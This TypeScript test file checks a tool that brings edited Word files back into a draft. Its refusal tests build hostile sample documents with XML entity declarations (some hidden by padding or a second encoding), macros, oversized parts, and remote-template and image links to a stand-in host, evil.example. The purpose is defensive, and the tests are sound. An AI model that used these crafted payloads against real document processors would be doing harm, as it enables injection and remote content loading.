import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { edit } from './testing/publishable-content.ts';
import { clause, nobody, replaceWords, sent } from './testing/returned-word.ts';
import { runCode } from './testing/run-code.ts';

test('a file that lost what it was made from is compared with the draft, saying how sure that is', async () => {
  const { folder, file, textOf: source } = await sent();
  replaceWords(file, [nobody]);
  const parts = unzipSync(readFileSync(file));
  const left = Object.fromEntries(
    Object.entries(parts).filter(([path]) => !path.startsWith('customXml/') && path !== 'docProps/custom.xml'),
  );
  writeFileSync(file, zipSync(left));
  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
  expect(output).toMatch(/It was compared with the draft as it is now\. \d+ of its \d+ longer paragraphs/);
  expect(source('system-purpose')).toContain(nobody.by);
});

/** Takes parts out of a file, as some programs do. */
function lose(file: string, isLost: (path: string) => boolean): void {
  const parts = unzipSync(readFileSync(file));
  writeFileSync(file, zipSync(Object.fromEntries(Object.entries(parts).filter(([path]) => !isLost(path)))));
}

test.each([
  ['was cut off', (sources: string) => sources.slice(0, sources.length / 2)],
  ['was altered', (sources: string) => sources.replace('In particular, nobody', 'In particular, anybody')],
])('a file whose record of what it was made from %s is compared with the draft too', async (_, spoil) => {
  const { folder, file, textOf: source } = await sent();
  replaceWords(file, [nobody]);
  const parts = unzipSync(readFileSync(file));
  const path = 'customXml/item1.xml';
  const spoilt = spoil(strFromU8(parts[path] ?? new Uint8Array()));
  writeFileSync(file, zipSync({ ...parts, [path]: strToU8(spoilt) }));
  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
  expect(output).toContain(
    'What this file says it was made from is damaged. It was compared with the draft as it is now.',
  );
  expect(output).toContain('1 change: 1 can be accepted');
  expect(source('system-purpose')).toContain(nobody.by);
  expect(source('system-purpose')).not.toContain('anybody');
});

function commit(folder: string): void {
  for (const args of [
    ['init', '-q'],
    ['add', '-A'],
    ['-c', 'user.name=Editor', '-c', 'user.email=editor@example.org', 'commit', '-qm', 'The draft'],
  ])
    expect(spawnSync('git', args, { cwd: folder }).status).toBe(0);
}

const loseSources = (path: string): boolean => path.startsWith('customXml/');

test.each([
  ['whose hash is left, which is sure', loseSources, 'Its hash confirms this.'],
  [
    'that has lost its hash too, saying how much of it was found',
    (path: string) => loseSources(path) || path === 'docProps/custom.xml',
    'longer paragraphs are there word for word, so look at each change with care.',
  ],
] as const)(
  'a file that lost what it was made from is compared with an older draft in git, %s',
  async (_, isLost, words) => {
    const { folder, file, textOf: source } = await sent();
    commit(folder);
    replaceWords(file, [nobody]);
    lose(file, isLost);
    // Since then the draft went on, in the same clause and in another one.
    edit(folder, clause('system-purpose'), (text) => text.replace('In particular, nobody', 'Above all, nobody'));
    edit(folder, clause('who-may-use'), (text) => text.replace('at least once a year', 'at least twice a year'));
    commit(folder);
    const { succeeded, output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
    expect(succeeded, output).toBe(true);
    expect(output).toMatch(/It was compared with the draft of .* in git \([0-9a-f]{7}\)/);
    expect(output).toContain(words);
    expect(output).toContain('1 change: 1 can be accepted');
    expect(source('system-purpose')).toContain(nobody.by);
    expect(source('system-purpose')).toContain('Above all, nobody');
    expect(source('who-may-use')).toContain('at least twice a year');
  },
);

test('a file that says nothing about itself and has none of the words of any draft is refused', async () => {
  const { folder, file } = await sent('--clauses', 'G');
  const parts = unzipSync(readFileSync(file));
  const document = strFromU8(parts['word/document.xml'] ?? new Uint8Array()).replace(
    /(<w:t(?: [^>]*)?>)([^<]*)/g,
    (_, tag: string, words: string) => tag + words.replaceAll('e', 'xq'),
  );
  writeFileSync(file, zipSync({ ...parts, 'word/document.xml': strToU8(document) }));
  lose(file, loseSources);
  const { succeeded, output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
  expect(succeeded).toBe(false);
  expect(output).toContain('No version of the draft has its words. Nothing was changed.');
});

const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Every file of the draft, with what is in it. */
function filesIn(folder: string): readonly (readonly [string, string])[] {
  const draft = join(folder, 'code/draft');
  return readdirSync(draft, { recursive: true, withFileTypes: true })
    .filter((one) => one.isFile())
    .map((one) => [join(one.parentPath, one.name), readFileSync(join(one.parentPath, one.name), 'latin1')] as const)
    .toSorted(([one], [other]) => one.localeCompare(other));
}

test.each([
  ['that is encrypted', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]), 'This file is encrypted'],
  [
    'that was cut off',
    (bytes: Uint8Array) => bytes.slice(0, 5000),
    'it may be another kind of file, or a part of it may be missing',
  ],
  [
    'with macros',
    (bytes: Uint8Array) => zipSync({ ...unzipSync(bytes), 'word/vbaProject.bin': strToU8('x') }),
    'This file has macros',
  ],
  [
    'with entities',
    (bytes: Uint8Array) =>
      zipSync({ ...unzipSync(bytes), 'word/comments.xml': strToU8('<!DOCTYPE a [<!ENTITY b "c">]><w:comments/>') }),
    'This file defines entities',
  ],
  [
    'that loads something from outside',
    (bytes: Uint8Array) =>
      zipSync({
        ...unzipSync(bytes),
        'word/_rels/settings.xml.rels': strToU8(
          `<Relationships><Relationship Id="r1" Type="${relationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        ),
      }),
    'This file loads something from outside (http://evil.example/t.dotm)',
  ],
  ['that is no Word file', () => strToU8('Dear all,'), 'This is not a complete Word file'],
  [
    'with entities in another encoding',
    (bytes: Uint8Array) =>
      zipSync({
        ...unzipSync(bytes),
        'word/comments.xml': Buffer.from('\uFEFF<!DOCTYPE a [<!ENTITY b "c">]><w:comments/>', 'utf16le'),
      }),
    'This file defines entities (word/comments.xml)',
  ],
  [
    'with an entity far down',
    (bytes: Uint8Array) =>
      zipSync({
        ...unzipSync(bytes),
        'word/comments.xml': strToU8(`<!--${' '.repeat(20_000)}--><!DOCTYPE a [<!ENTITY b "c">]><w:comments/>`),
      }),
    'This file defines entities',
  ],
  [
    'that shows a picture from outside, in other quotation marks',
    (bytes: Uint8Array) =>
      zipSync({
        ...unzipSync(bytes),
        'word/_rels/comments.xml.rels': strToU8(
          `<Relationships><Relationship Id='r1' Type='${relationships}/image' Target='http://evil.example/p.png' TargetMode='External'/></Relationships>`,
        ),
      }),
    'This file loads something from outside (http://evil.example/p.png)',
  ],
  [
    'that holds a part which is no XML',
    (bytes: Uint8Array) => zipSync({ ...unzipSync(bytes), 'word/document.xml': strToU8('<w:document><w:body>') }),
    'This Word file is damaged (word/document.xml)',
  ],
  [
    'that becomes far too large',
    (bytes: Uint8Array) => zipSync({ ...unzipSync(bytes), 'word/media/a.png': new Uint8Array(60_000_000) }),
    'This file would become',
  ],
  [
    'of another body',
    (bytes: Uint8Array) => {
      const parts = unzipSync(bytes);
      const sentPart = strFromU8(parts['customXml/item1.xml'] ?? new Uint8Array());
      return zipSync({
        ...parts,
        'customXml/item1.xml': strToU8(sentPart.replace(/ code="[^"]*"/, ' code="Allotments"')),
      });
    },
    'This file is of “Allotments”',
  ],
] as const)('a file %s is refused in a sentence, and nothing is changed', async (_, spoil, words) => {
  const { folder, file } = await sent('--clauses', 'G');
  const before = filesIn(folder);
  replaceWords(file, [nobody]);
  writeFileSync(file, spoil(readFileSync(file)));
  const { succeeded, output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
  expect(succeeded).toBe(false);
  expect(output).toContain(words);
  expect(output).toContain('Nothing was changed.');
  expect(filesIn(folder)).toEqual(before);
});
